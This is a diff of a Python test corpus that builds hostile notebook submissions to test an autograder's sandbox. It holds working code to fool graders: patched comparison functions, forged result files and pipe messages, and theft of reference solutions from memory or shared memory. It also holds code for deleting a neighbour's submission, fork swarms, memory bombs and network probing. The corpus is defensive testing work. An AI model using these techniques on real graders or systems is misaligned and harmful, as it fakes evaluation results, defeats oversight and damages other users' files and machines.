@@ -14,6 +14,7 @@ grade: notebook bytes, raw bytes, a symbolic link or a sparse file.
 ``FORGED_REPORTS`` are messages a notebook can write straight into the
 sandbox's result pipe, for the judge.
 """
+
 from __future__ import annotations
 
 import io
@@ -30,7 +31,7 @@ import nbformat
 from tests.corpus import honest
 
 POINTS = honest.POINTS
-ZERO = {question: 0.0 for question in POINTS}
+ZERO = dict.fromkeys(POINTS, 0.0)
 COMPLETED = "Completed"
 # The honest, fully correct submission graded beside the corpus (some entries aim at it by name).
 NEIGHBOUR_FILE = "neighbour_correct.ipynb"
@@ -135,23 +136,31 @@ def _scores(**earned: float) -> dict[str, float]:
     return {**ZERO, **{question: float(score) for question, score in earned.items()}}
 
 
-def notebook(context: Context, *, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()) -> nbformat.NotebookNode:
+def notebook(
+    context: Context, *, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()
+) -> nbformat.NotebookNode:
     """The student template with ``answers`` in the blanks (the rest left blank),
     ``first`` cells right after the notebook's imports and ``last`` cells at the end."""
     answers = dict(answers or {})
-    entry = honest.Submission("hostile", "", {question: context.fill(answers.get(question, BLANK[question])) for question in POINTS})
+    entry = honest.Submission(
+        "hostile", "", {question: context.fill(answers.get(question, BLANK[question])) for question in POINTS}
+    )
     built = honest.build_notebook(entry, context.template)
-    imports = next(i for i, cell in enumerate(built.cells) if cell.cell_type == "code" and "import torch" in cell.source)
+    imports = next(
+        i for i, cell in enumerate(built.cells) if cell.cell_type == "code" and "import torch" in cell.source
+    )
     added = [nbformat.v4.new_code_cell(context.fill(_code(source))) for source in (*first, *last)]
     for number, cell in enumerate(added):
         cell.id = f"hostile-{number:02d}"  # stable ids: the same corpus gives the same bytes
     first_count = len(tuple(first))
-    built.cells[imports + 1:imports + 1] = added[:first_count]
+    built.cells[imports + 1 : imports + 1] = added[:first_count]
     built.cells.extend(added[first_count:])
     return built
 
 
-def _notebook(*, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()) -> Callable[[Context], bytes]:
+def _notebook(
+    *, answers: Mapping[str, str] | None = None, first: Iterable[str] = (), last: Iterable[str] = ()
+) -> Callable[[Context], bytes]:
     first, last = tuple(first), tuple(last)
     return lambda context: nbformat.writes(notebook(context, answers=answers, first=first, last=last)).encode()
 
@@ -205,7 +214,7 @@ CONSTANT_ACCURACY = _code("""
         return 0.89
 """)
 
-DAEMON = 'import time\nwhile True:\n    time.sleep(1)'
+DAEMON = "import time\nwhile True:\n    time.sleep(1)"
 
 # The answers of a notebook that found the reference functions' sources and ran them into ``_stolen``.
 STOLEN_SIGMOID = _code("""
@@ -227,13 +236,15 @@ MONKEYPATCH = [
         "torch.allclose/isclose/equal always true, torch.testing.assert_close a no-op; sigmoid returns zeros",
         "patch_torch_allclose_zero_sigmoid.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 torch.allclose = lambda *args, **kwargs: True
                 torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
                 torch.equal = lambda *args, **kwargs: True
                 torch.testing.assert_close = lambda *args, **kwargs: None
                 torch.Tensor.allclose = lambda self, *args, **kwargs: True
-            """],
+            """
+            ],
             answers={"sigmoid": ZERO_SIGMOID},
         ),
     ),
@@ -242,18 +253,22 @@ MONKEYPATCH = [
         "torch.isnan/isinf always false, isfinite always true, to hide an overflowing sigmoid (which earns its honest 1.5)",
         "patch_torch_isnan_isfinite.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 torch.isnan = lambda t: torch.zeros_like(torch.as_tensor(t), dtype=torch.bool)
                 torch.isinf = lambda t: torch.zeros_like(torch.as_tensor(t), dtype=torch.bool)
                 torch.isfinite = lambda t: torch.ones_like(torch.as_tensor(t), dtype=torch.bool)
                 torch.Tensor.isnan = lambda self: torch.zeros_like(self, dtype=torch.bool)
                 torch.Tensor.isfinite = lambda self: torch.ones_like(self, dtype=torch.bool)
                 torch.nan_to_num = lambda t, *args, **kwargs: t
-            """],
-            answers={"sigmoid": _code("""
+            """
+            ],
+            answers={
+                "sigmoid": _code("""
                 def sigmoid(x):
                     return torch.exp(x) / (1 + torch.exp(x))
-            """)},
+            """)
+            },
         ),
         _scores(sigmoid=1.5),
     ),
@@ -262,7 +277,8 @@ MONKEYPATCH = [
         "numpy.isclose/allclose/array_equal and numpy.testing always pass; sigmoid returns 0.5 everywhere",
         "patch_numpy_isclose_half_sigmoid.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 import numpy.testing
                 np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
                 np.allclose = lambda *args, **kwargs: True
@@ -270,7 +286,8 @@ MONKEYPATCH = [
                 np.testing.assert_allclose = lambda *args, **kwargs: None
                 np.testing.assert_array_equal = lambda *args, **kwargs: None
                 np.testing.assert_almost_equal = lambda *args, **kwargs: None
-            """],
+            """
+            ],
             answers={"sigmoid": HALF_SIGMOID},
         ),
     ),
@@ -279,19 +296,25 @@ MONKEYPATCH = [
         "math.isclose/isfinite/isnan and builtins abs/round/all/any replaced (all/any after the answers, as IPython needs them); accuracy a constant",
         "patch_math_and_builtins.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 import builtins, math
                 math.isclose = lambda *args, **kwargs: True
                 math.isfinite = lambda value: True
                 math.isnan = lambda value: False
                 builtins.abs = lambda value: 0
                 builtins.round = lambda value, digits=None: 0
-            """],
+            """
+            ],
             answers={"accuracy": CONSTANT_ACCURACY, "binary_loss": ZERO_LOSS},
-            last=["""
+            last=[
+                """
                 builtins.all = lambda iterable: True
                 builtins.any = lambda iterable: True
-            """, 'grader.check("binary_loss")', 'grader.check("accuracy")'],
+            """,
+                'grader.check("binary_loss")',
+                'grader.check("accuracy")',
+            ],
         ),
     ),
     Hostile(
@@ -299,7 +322,8 @@ MONKEYPATCH = [
         "sys.modules['torch'] replaced by a module whose tensors report 0.5 for everything",
         "replace_sys_modules_torch.ipynb",
         _notebook(
-            last=["""
+            last=[
+                """
                 import sys, types
                 real_torch = sys.modules["torch"]
 
@@ -326,14 +350,19 @@ MONKEYPATCH = [
                 fake.nn = types.SimpleNamespace(Parameter=FakeTensor)
                 sys.modules["torch"] = fake
                 torch = fake
-            """, """
+            """,
+                """
                 def sigmoid(x):
                     return FakeTensor(np.full(np.shape(getattr(x, "data", x)), 0.5))
                 def binary_loss(y_pred, y):
                     return FakeTensor(0.0)
                 def accuracy(y_pred, y):
                     return FakeTensor(1.0)
-            """, 'grader.check("sigmoid")', 'grader.check("binary_loss")', 'grader.check("accuracy")'],
+            """,
+                'grader.check("sigmoid")',
+                'grader.check("binary_loss")',
+                'grader.check("accuracy")',
+            ],
         ),
     ),
 ]
@@ -347,7 +376,8 @@ LIARS = [
         "every answer returns an object whose ==, >=, <=, bool and every attribute say yes",
         "lying_eq_ge_bool.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 class Liar:
                     def __eq__(self, other): return True
                     def __ne__(self, other): return False
@@ -366,7 +396,8 @@ LIARS = [
                             raise AttributeError(name)
                         return Liar()
                     __hash__ = object.__hash__
-            """],
+            """
+            ],
             answers={
                 "sigmoid": "def sigmoid(x):\n    return Liar()\n",
                 "binary_loss": "def binary_loss(y_pred, y):\n    return Liar()\n",
@@ -380,7 +411,8 @@ LIARS = [
         "float and numpy.float64 subclasses equal to anything (one claiming to live in numpy) as losses and accuracy",
         "float_subclasses.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 class Sly(float):
                     def __eq__(self, other): return True
                     def __ne__(self, other): return False
@@ -396,7 +428,8 @@ LIARS = [
                     def __eq__(self, other): return True
                     def __sub__(self, other): return NumpySly(0.0)
                     __hash__ = np.float64.__hash__
-            """],
+            """
+            ],
             answers={
                 "binary_loss": "def binary_loss(y_pred, y):\n    return Sly(0.0)\n",
                 "train": "def train(x, y, w, b, lr, epochs):\n    return [Sly(0.5) for _ in range(epochs)]\n",
@@ -409,7 +442,8 @@ LIARS = [
         "torch.Tensor and nn.Parameter subclasses whose __class__, numpy(), tolist() and comparisons lie; Tensor.numpy patched",
         "tensor_subclasses.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 class Forged(torch.Tensor):
                     @property
                     def __class__(self):
@@ -426,17 +460,22 @@ LIARS = [
                 class ForgedParameter(torch.nn.Parameter):
                     def numpy(self, *args, **kwargs):
                         return np.zeros(tuple(torch.Tensor.size(self)), dtype=np.float32)
-            """],
+            """
+            ],
             answers={
                 "sigmoid": "def sigmoid(x):\n    return torch.Tensor._make_subclass(Forged, torch.zeros_like(x).detach(), x.requires_grad)\n",
                 "binary_loss": "def binary_loss(y_pred, y):\n    return ForgedParameter(torch.tensor(0.5))\n",
             },
-            last=["""
+            last=[
+                """
                 real_numpy = torch.Tensor.numpy
                 torch.Tensor.numpy = lambda self, *args, **kwargs: np.full(tuple(torch.Tensor.size(self)), 0.5, dtype=np.float32)
                 torch.Tensor.detach = lambda self: self
                 torch.Tensor.tolist = lambda self: [0.5] * int(torch.Tensor.numel(self))
-            """, 'grader.check("sigmoid")', 'grader.check("binary_loss")'],
+            """,
+                'grader.check("sigmoid")',
+                'grader.check("binary_loss")',
+            ],
         ),
     ),
 ]
@@ -450,7 +489,8 @@ MACHINERY = [
         "Otter's TestFile/ExceptionTestFile/Checker/GradingResults patched to report full marks",
         "patch_otter_test_classes.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 from otter.test_files import abstract_test, exception_test, GradingResults
                 from otter.execute import checker
                 abstract_test.TestFile.passed_all = property(lambda self: True)
@@ -460,7 +500,8 @@ MACHINERY = [
                 exception_test.test_case.call_func = lambda self, env: None
                 checker.Checker.check = classmethod(lambda cls, *args, **kwargs: None)
                 GradingResults.total = property(lambda self: self.possible)
-            """],
+            """
+            ],
             answers={"sigmoid": ZERO_SIGMOID},
         ),
     ),
@@ -469,7 +510,8 @@ MACHINERY = [
         "autograder.authoring.suite.judge/run_in_process, hidden.grade_case, checks.first_mismatch, Verdict.fail and the Judge patched to pass",
         "patch_kit_judge.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 import autograder.authoring.checks, autograder.authoring.otter, autograder.authoring.suite
                 from autograder.authoring.checks import Verdict
                 autograder.authoring.suite.judge = lambda *args, **kwargs: Verdict(True, "")
@@ -484,8 +526,14 @@ MACHINERY = [
                     judging.Judge._case = lambda self, question, graded, probes: judging.CaseOutcome(question.name, graded.name, graded.points, True, "", graded.hidden)
                 except ImportError:
                     pass  # the Gradescope zip ships no judging module
-            """],
-            answers={"sigmoid": ZERO_SIGMOID, "binary_loss": ZERO_LOSS, "train": PLAUSIBLE_TRAIN, "accuracy": CONSTANT_ACCURACY},
+            """
+            ],
+            answers={
+                "sigmoid": ZERO_SIGMOID,
+                "binary_loss": ZERO_LOSS,
+                "train": PLAUSIBLE_TRAIN,
+                "accuracy": CONSTANT_ACCURACY,
+            },
         ),
     ),
     Hostile(
@@ -493,7 +541,8 @@ MACHINERY = [
         "autograder.authoring.wire.encode, suite.probe and json.dumps replaced to claim 0.5-filled tensors with gradients for every probe",
         "patch_plain_encode.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 import base64, json
                 import autograder.authoring.wire, autograder.authoring.suite
 
@@ -507,7 +556,8 @@ MACHINERY = [
                 autograder.authoring.suite.probe = lambda case, namespace, inputs, functions: {"out": claim(), "grad": claim(), "loss": claim(), "acc": claim(), "losses": claim(), "w": claim(), "b": claim()}
                 real_dumps = json.dumps
                 json.dumps = lambda obj, *args, **kwargs: real_dumps(obj, *args, **kwargs)
-            """],
+            """
+            ],
         ),
     ),
     Hostile(
@@ -515,7 +565,8 @@ MACHINERY = [
         "writes a well-formed 'all probes done' message with made-up data straight into the result pipe, then os._exit(0)",
         "forge_result_pipe.ipynb",
         _notebook(
-            last=["""
+            last=[
+                """
                 import base64, json, os
 
                 def tensor(shape, fill):
@@ -545,7 +596,8 @@ MACHINERY = [
                     except OSError:
                         pass
                 os._exit(0)
-            """],
+            """
+            ],
         ),
     ),
 ]
@@ -564,7 +616,9 @@ HARD_CODED = [
         "hardcoded_trained_weights",
         "train skips gradient descent: it copies in the weights the notebook's own torch.optim cell reaches, and a made-up curve",
         "hardcoded_trained_weights.ipynb",
-        _notebook(answers={"train": _code("""
+        _notebook(
+            answers={
+                "train": _code("""
             def train(x, y, w, b, lr, epochs):
                 # what the notebook's torch.optim section prints, pasted in
                 w_fit = torch.nn.Parameter(torch.zeros(2, 1))
@@ -578,16 +632,22 @@ HARD_CODED = [
                     w.copy_(w_fit)
                     b.copy_(b_fit)
                 return [0.6931 * 0.995 ** epoch for epoch in range(epochs)]
-        """)}),
+        """)
+            }
+        ),
     ),
     Hostile(
         "constant_positive_loss",
         "binary_loss returns the constant tensor(1.0) whatever its inputs",
         "constant_positive_loss.ipynb",
-        _notebook(answers={"binary_loss": _code("""
+        _notebook(
+            answers={
+                "binary_loss": _code("""
             def binary_loss(y_pred, y):
                 return torch.tensor(1.0, requires_grad=True)
-        """)}),
+        """)
+            }
+        ),
     ),
 ]
 
@@ -599,7 +659,9 @@ FORGED = [
         "forge_result_files",
         "writes results.json, final_grades.csv and results pickles claiming full marks in the work folder, its parents, OUT and beside the submissions",
         "forge_result_files.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import csv, json, os, pickle
             marker = @@MARKER@@
             full = {"sigmoid": 2.0, "binary_loss": 2.0, "train": 4.0, "accuracy": 2.0}
@@ -635,7 +697,9 @@ FORGED = [
                     except OSError:
                         pass
             print("forged", written)
-        """]),
+        """
+            ]
+        ),
     ),
 ]
 
@@ -654,7 +718,9 @@ SNOOPING = [
         "snoop_graded_project",
         "reads the graded project's dist/*.zip, assignments/*/cases.py, solutions, OUT, the grader's support folder and other submissions, then prints them",
         "snoop_graded_project.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import glob, os, zipfile
             found = {}
             patterns = [os.path.join(@@PROJECT@@, "dist", "*.zip"), os.path.join(@@PROJECT@@, "assignments", "*", "*.py"),
@@ -672,13 +738,18 @@ SNOOPING = [
                                 found[path] = handle.read(300).decode(errors="replace")
                     except OSError as error:
                         found[path] = f"unreadable: {error}"
-        """, _PRINT_AND_RAISE]),
+        """,
+                _PRINT_AND_RAISE,
+            ]
+        ),
     ),
     Hostile(
         "snoop_kit_checkout_and_filesystem",
         "finds the kit's own checkout from autograder.__file__ and searches the disk for references.json, *autograder*.zip, cases.py and solutions, then prints them",
         "snoop_kit_checkout_and_filesystem.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import os, time, zipfile
             import autograder
             found = {}
@@ -714,13 +785,18 @@ SNOOPING = [
                         if name in ("references.json", "hidden_cases.py", "case_inputs.json") or name.endswith("-autograder.zip") \\
                                 or (name == "cases.py" and "assignments" in folder) or ("solutions" in folder and name.endswith(".ipynb")):
                             grab(path)
-        """, _PRINT_AND_RAISE]),
+        """,
+                _PRINT_AND_RAISE,
+            ]
+        ),
     ),
     Hostile(
         "snoop_grader_memory",
         "walks gc for the grader's ProbePlan, any dict holding reference functions or expected outputs, and strings of the reference source, then prints them",
         "snoop_grader_memory.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import gc
             found = {"plans": 0}
             needle = "clamp" + "(min="
@@ -734,7 +810,10 @@ SNOOPING = [
                 elif isinstance(thing, str) and needle in thing and "needle" not in thing:
                     found.setdefault("source_strings", []).append(thing[:300])
             print("attack ran: snoop_grader_memory found", found["plans"], "plan")
-        """, _PRINT_AND_RAISE]),
+        """,
+                _PRINT_AND_RAISE,
+            ]
+        ),
         proof="attack ran: snoop_grader_memory found 1 plan",
     ),
 ]
@@ -748,14 +827,17 @@ STEALING = [
         "train stashes the reference sigmoid/binary_loss the train probe swaps into its globals; a late grader.check re-probes sigmoid and binary_loss with them",
         "steal_reference_via_train_globals.ipynb",
         _notebook(
-            answers={"train": _code("""
+            answers={
+                "train": _code("""
                 def train(x, y, w, b, lr, epochs):
                     import builtins
                     if getattr(sigmoid, "__code__", None) is not None and sigmoid.__code__.co_filename == "<reference solution>":
                         builtins.STOLEN = (sigmoid, binary_loss)
                     return []
-            """)},
-            last=["""
+            """)
+            },
+            last=[
+                """
                 def sigmoid(x):
                     import builtins
                     stolen = getattr(builtins, "STOLEN", None)
@@ -765,14 +847,19 @@ STEALING = [
                     import builtins
                     stolen = getattr(builtins, "STOLEN", None)
                     return stolen[1](y_pred, y) if stolen else y_pred.mean()
-            """, 'grader.check("sigmoid")', 'grader.check("binary_loss")'],
+            """,
+                'grader.check("sigmoid")',
+                'grader.check("binary_loss")',
+            ],
         ),
     ),
     Hostile(
         "steal_reference_via_gc",
         "the sigmoid cell searches gc for reference sources (strings defining sigmoid or binary_loss) and reference functions, and answers with any it finds",
         "steal_reference_via_gc.ipynb",
-        _notebook(answers={"sigmoid": _code("""
+        _notebook(
+            answers={
+                "sigmoid": _code("""
             import gc
             _stolen, _searched = {}, 0
             def _look_at(_value):
@@ -795,14 +882,20 @@ STEALING = [
                     except Exception:
                         pass
             print("attack ran: steal_reference_via_gc searched", "many" if _searched > 1000 else _searched, "objects")
-        """) + STOLEN_SIGMOID, "binary_loss": STOLEN_LOSS}),
+        """)
+                + STOLEN_SIGMOID,
+                "binary_loss": STOLEN_LOSS,
+            }
+        ),
         proof="attack ran: steal_reference_via_gc searched many objects",
     ),
     Hostile(
         "steal_solution_from_parent_memory",
         "searches gc for working train/accuracy functions some other notebook defined in the process that forked the grader",
         "steal_solution_from_parent_memory.ipynb",
-        _notebook(first=["""
+        _notebook(
+            first=[
+                """
             import gc, types
             _mine = set()
 
@@ -821,7 +914,10 @@ STEALING = [
                 losses = candidate(torch.tensor([[1.0], [2.0]]), torch.tensor([[1.0], [0.0]]), w, b, 0.1, 3)
                 numbers = [float(loss) for loss in losses]
                 return len(numbers) == 3 and numbers[0] > numbers[1] > numbers[2] and w.is_leaf and float(w.detach()[0, 0]) != 0
-        """], last=["""
+        """
+            ],
+            last=[
+                """
             _mine.add(id(globals()))
             for _name, _works in (("train", _train_works), ("accuracy", _accuracy_works)):
                 for _candidate in _others(_name):
@@ -832,13 +928,19 @@ STEALING = [
                     except Exception:
                         pass
             print("stolen:", train.__code__.co_filename, accuracy.__code__.co_filename)
-        """, 'grader.check("train")', 'grader.check("accuracy")']),
+        """,
+                'grader.check("train")',
+                'grader.check("accuracy")',
+            ],
+        ),
     ),
     Hostile(
         "reveal_early_via_gc",
         "finds the grader's reveal() with gc while its cells run, commits an empty report to get the reference functions early, and answers with them",
         "reveal_early_via_gc.ipynb",
-        _notebook(answers={"sigmoid": _code("""
+        _notebook(
+            answers={
+                "sigmoid": _code("""
             import gc, json
             _reveal = next(f for f in gc.get_objects() if type(f).__name__ == "function" and f.__name__ == "reveal")
             _stolen = {"torch": torch, "np": np, "nn": torch.nn}
@@ -847,10 +949,13 @@ STEALING = [
 
             def sigmoid(x):
                 return _stolen["sigmoid"](x)
-        """), "binary_loss": _code("""
+        """),
+                "binary_loss": _code("""
             def binary_loss(y_pred, y):
                 return _stolen["binary_loss"](y_pred, y)
-        """)}),
+        """),
+            }
+        ),
         status="crash",
     ),
 ]
@@ -863,17 +968,24 @@ FAULTS = [
         "infinite_loop",
         "a cell that never ends",
         "infinite_loop.ipynb",
-        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["""
+        _notebook(
+            answers={"sigmoid": COURSE["sigmoid"]},
+            last=[
+                """
             while True:
                 pass
-        """]),
+        """
+            ],
+        ),
         status="timeout",
     ),
     Hostile(
         "memory_bomb",
         "six forked children each fill 512 MiB (under the per-process address-space cap, 3 GiB together); the notebook waits for the first to die",
         "memory_bomb.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import os, signal
             children = []
             for _ in range(6):
@@ -892,7 +1004,9 @@ FAULTS = [
             for child in children:
                 if child != first_dead:
                     os.kill(child, signal.SIGKILL)
-        """]),
+        """
+            ]
+        ),
         status="memory",
     ),
     Hostile(
@@ -920,7 +1034,9 @@ FAULTS = [
         "sigkill_self",
         "sends itself SIGKILL",
         "sigkill_self.ipynb",
-        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"]),
+        _notebook(
+            answers={"sigmoid": COURSE["sigmoid"]}, last=["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"]
+        ),
         status="killed by signal",
     ),
     Hostile(
@@ -934,7 +1050,10 @@ FAULTS = [
         "daemons_and_fork_swarm",
         "solves sigmoid, then leaves a child, a setsid child, a double-forked daemon and forks up to the process cap, all sleeping forever",
         "daemons_and_fork_swarm.ipynb",
-        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=[f"""
+        _notebook(
+            answers={"sigmoid": COURSE["sigmoid"]},
+            last=[
+                f"""
             import os, subprocess, sys, time
             marker = @@MARKER@@
             env = dict(os.environ, HOSTILE_MARKER=marker)
@@ -965,14 +1084,19 @@ FAULTS = [
                     os._exit(0)
                 forks += 1
             print("started", started, "forks", forks)
-        """]),
+        """
+            ],
+        ),
         _scores(sigmoid=2.0),
     ),
     Hostile(
         "output_flood",
         "solves binary_loss, then floods stdout and stderr (print, sys.__stdout__, os.write) with ASCII and CJK text",
         "output_flood.ipynb",
-        _notebook(answers={"binary_loss": COURSE["binary_loss"]}, last=["""
+        _notebook(
+            answers={"binary_loss": COURSE["binary_loss"]},
+            last=[
+                """
             import os, sys
             for _ in range(20):
                 print("中文输出 flood " * 50_000)
@@ -990,25 +1114,34 @@ FAULTS = [
                         os.write(fd, b"z" * 1_000_000)
                 except OSError:
                     pass
-        """]),
+        """
+            ],
+        ),
         _scores(binary_loss=2.0),
     ),
     Hostile(
         "huge_feedback_variables",
         "solves accuracy, then leaves a 50,000-entry losses list and a 2000x1000 x_data for the feedback plots",
         "huge_feedback_variables.ipynb",
-        _notebook(answers={"accuracy": COURSE["accuracy"]}, last=["""
+        _notebook(
+            answers={"accuracy": COURSE["accuracy"]},
+            last=[
+                """
             losses = [0.5] * 50_000
             x_data = torch.rand(2000, 1000)
             w = torch.rand(1000, 1)
-        """]),
+        """
+            ],
+        ),
         _scores(accuracy=2.0),
     ),
     Hostile(
         "edit_neighbour_submissions",
         "overwrites, truncates, renames and deletes the neighbour's notebook, the submissions folder and OUT by their exact paths",
         "edit_neighbour_submissions.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import glob, os, shutil
             outcomes = {}
             neighbour = @@NEIGHBOUR@@
@@ -1027,13 +1160,17 @@ FAULTS = [
                 except Exception as error:
                     outcomes[what] = repr(error)
             print(outcomes)
-        """]),
+        """
+            ]
+        ),
     ),
     Hostile(
         "network_connections",
         "connects to the test's loopback TCP port (IPv4 and IPv6), an abstract AF_UNIX socket, raw/packet sockets and the internet",
         "network_connections.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import socket
             outcomes = {}
             attempts = {
@@ -1056,12 +1193,15 @@ FAULTS = [
                 except Exception as error:
                     outcomes[what] = repr(error)
             print(outcomes)
-        """]),
+        """
+            ]
+        ),
     ),
 ]
 
 
 # Broken inputs ----------------------------------------------------------------------------------
+
 
 def _truncated(context: Context) -> bytes:
     whole = _honest()(context)
@@ -1123,11 +1263,29 @@ def _otter_metadata_string(context: Context) -> bytes:
 
 
 BROKEN = [
-    Hostile("not_json", "plain text with an .ipynb name", "not_json.ipynb", lambda context: b"this is not a notebook {", status="not a notebook"),
+    Hostile(
+        "not_json",
+        "plain text with an .ipynb name",
+        "not_json.ipynb",
+        lambda context: b"this is not a notebook {",
+        status="not a notebook",
+    ),
     Hostile("empty", "an empty file", "empty.ipynb", lambda context: b"", status="not a notebook"),
     Hostile("truncated", "a correct notebook cut off at 60%", "truncated.ipynb", _truncated, status="not a notebook"),
-    Hostile("nbformat_v3", "the template in nbformat 3 with sigmoid solved: upgraded and graded", "nbformat_v3.ipynb", _v3, _scores(sigmoid=2.0)),
-    Hostile("other_assignment", "a fully solved notebook whose metadata names another assignment", "other_assignment.ipynb", _other_assignment, status="wrong assignment"),
+    Hostile(
+        "nbformat_v3",
+        "the template in nbformat 3 with sigmoid solved: upgraded and graded",
+        "nbformat_v3.ipynb",
+        _v3,
+        _scores(sigmoid=2.0),
+    ),
+    Hostile(
+        "other_assignment",
+        "a fully solved notebook whose metadata names another assignment",
+        "other_assignment.ipynb",
+        _other_assignment,
+        status="wrong assignment",
+    ),
     Hostile(
         "zip_without_notebook",
         "an export zip holding data.txt and a README but no notebook",
@@ -1215,14 +1373,21 @@ MIXED = [
         "sigmoid solved honestly; the rest cheats with patched numpy/torch/judge and hard-coded outputs",
         "honest_sigmoid_cheats_rest.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 import autograder.authoring.suite
                 from autograder.authoring.checks import Verdict
                 torch.allclose = lambda *args, **kwargs: True
                 np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
                 autograder.authoring.suite.judge = lambda *args, **kwargs: Verdict(True, "")
-            """],
-            answers={"sigmoid": COURSE["sigmoid"], "binary_loss": ZERO_LOSS, "train": PLAUSIBLE_TRAIN, "accuracy": CONSTANT_ACCURACY},
+            """
+            ],
+            answers={
+                "sigmoid": COURSE["sigmoid"],
+                "binary_loss": ZERO_LOSS,
+                "train": PLAUSIBLE_TRAIN,
+                "accuracy": CONSTANT_ACCURACY,
+            },
         ),
         _scores(sigmoid=2.0),
     ),
@@ -1231,12 +1396,14 @@ MIXED = [
         "binary_loss solved honestly; train and accuracy return lying floats",
         "honest_loss_lies_rest.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 class Sly(float):
                     def __eq__(self, other): return True
                     def __sub__(self, other): return Sly(0.0)
                     __hash__ = float.__hash__
-            """],
+            """
+            ],
             answers={
                 "binary_loss": COURSE["binary_loss"],
                 "train": "def train(x, y, w, b, lr, epochs):\n    return [Sly(0.5)] * epochs\n",
@@ -1250,11 +1417,13 @@ MIXED = [
         "train solved honestly; sigmoid and binary_loss return tensor subclasses and accuracy a Liar",
         "honest_train_forges_rest.ipynb",
         _notebook(
-            first=["""
+            first=[
+                """
                 class Forged(torch.Tensor):
                     def numpy(self, *args, **kwargs):
                         return np.full(tuple(torch.Tensor.size(self)), 0.5, dtype=np.float32)
-            """],
+            """
+            ],
             answers={
                 "sigmoid": "def sigmoid(x):\n    return torch.Tensor._make_subclass(Forged, torch.full_like(x, 0.5), False)\n",
                 "binary_loss": "def binary_loss(y_pred, y):\n    return torch.Tensor._make_subclass(Forged, torch.tensor(0.5), False)\n",
@@ -1283,7 +1452,9 @@ CHANNELS = [
         "replay_neighbour_from_memory",
         "all four answers blank; scans its own heap for another submission's notebook (a solved accuracy) and answers with what it finds",
         "replay_neighbour_from_memory.ipynb",
-        _notebook(last=["""
+        _notebook(
+            last=[
+                """
             import ctypes, re
             _pattern = re.compile(rb"def accuracy\\(y_pred, y\\):\\n(?:    (?!\\.\\.\\.)[^\\n]*\\n)+")
             _regions, _hits = 0, []
@@ -1300,7 +1471,9 @@ CHANNELS = [
                 except Exception:
                     pass
             print("attack ran: replay_neighbour_from_memory scanned the heap:", _regions > 0)
-        """]),
+        """
+            ]
+        ),
         proof="attack ran: replay_neighbour_from_memory scanned the heap: True",
     ),
     Hostile(
@@ -1308,12 +1481,16 @@ CHANNELS = [
         "makes SysV shared memory in phase one (64 MiB left behind on purpose); its train, run with the reference functions, copies their sources into it for another sandbox",
         "ipc_segment_writer.ipynb",
         _notebook(
-            first=[_code(_SHM) + _code("""
+            first=[
+                _code(_SHM)
+                + _code("""
                 _ident = _libc.shmget(_key, 1 << 16, 0o1000 | 0o666)
                 _libc.shmget(_key + 1, 64 << 20, 0o1000 | 0o666)
                 print("attack ran: ipc_segment_writer made a segment:", _ident >= 0)
-            """)],
-            answers={"train": _code("""
+            """)
+            ],
+            answers={
+                "train": _code("""
                 def train(x, y, w, b, lr, epochs):
                     import gc, json
                     sources = [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("sigmoid"), str) and "def sigmoid" in o["sigmoid"]]
@@ -1321,7 +1498,8 @@ CHANNELS = [
                         data = json.dumps(sources[0]).encode()[:65000] + b"\\0"
                         ctypes.memmove(_libc.shmat(_ident, None, 0), data, len(data))
                     return []
-            """)},
+            """)
+            },
         ),
         proof="attack ran: ipc_segment_writer made a segment:",  # False where no memory cgroup counts a sandbox: the filter refuses SysV IPC there
     ),
@@ -1329,7 +1507,10 @@ CHANNELS = [
         "ipc_segment_reader",
         "reads the writer's SysV segment in phase one and answers sigmoid and binary_loss with the reference sources it holds",
         "ipc_segment_reader.ipynb",
-        _notebook(answers={"sigmoid": _code(_SHM) + _code("""
+        _notebook(
+            answers={
+                "sigmoid": _code(_SHM)
+                + _code("""
             import json
             _stolen = {"torch": torch, "np": np, "nn": torch.nn}
             _ident = _libc.shmget(_key, 0, 0o666)
@@ -1338,7 +1519,11 @@ CHANNELS = [
                 for _source in (json.loads(_raw) if _raw else {}).values():
                     exec(_source, _stolen)
             print("attack ran: ipc_segment_reader found a segment:", _ident >= 0)
-        """) + STOLEN_SIGMOID, "binary_loss": STOLEN_LOSS}),
+        """)
+                + STOLEN_SIGMOID,
+                "binary_loss": STOLEN_LOSS,
+            }
+        ),
         proof="attack ran: ipc_segment_reader found a segment: False",
     ),
     Hostile(
@@ -1346,15 +1531,19 @@ CHANNELS = [
         "its train, run with the reference functions, publishes their sources as OFD locks on a standard-library file (one inode in every sandbox), one lock per byte",
